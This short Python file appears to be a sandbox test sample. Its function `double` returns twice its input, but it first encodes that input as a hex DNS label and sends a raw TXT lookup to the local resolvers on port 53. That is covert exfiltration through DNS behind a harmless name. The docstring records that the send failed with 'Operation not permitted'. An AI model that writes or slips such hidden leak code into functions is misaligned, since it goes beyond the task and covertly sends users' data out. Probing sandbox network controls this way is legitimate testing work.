"""Writes the packet of a name lookup itself, with its input as the name.

double: error
points: 4
says: [Errno 1] Operation not permitted
"""

import socket
import struct


def double(x):
    label = repr(x).encode().hex().encode()
    packet = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\0" + struct.pack(">HH", 16, 1)
    for server in ("127.0.0.53", "127.0.0.1"):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, (server, 53))
    return 2 * x
